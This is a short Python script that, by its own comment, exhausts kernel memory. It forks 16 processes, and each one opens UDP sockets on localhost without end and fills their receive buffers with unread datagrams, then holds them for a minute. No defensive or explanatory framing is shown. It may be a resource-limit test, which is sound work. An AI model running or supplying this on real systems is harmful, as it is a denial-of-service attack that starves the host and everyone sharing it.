# Takes the kernel's memory in datagrams that nobody reads.
import contextlib
import os
import socket
import time

for _ in range(16):
    if os.fork() == 0:
        held = []
        with contextlib.suppress(OSError):
            while True:
                one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                one.bind(("127.0.0.1", 0))
                held.append(one)
                for _ in range(200):
                    one.sendto(b"x" * 1000, one.getsockname())
        time.sleep(60)
time.sleep(60)
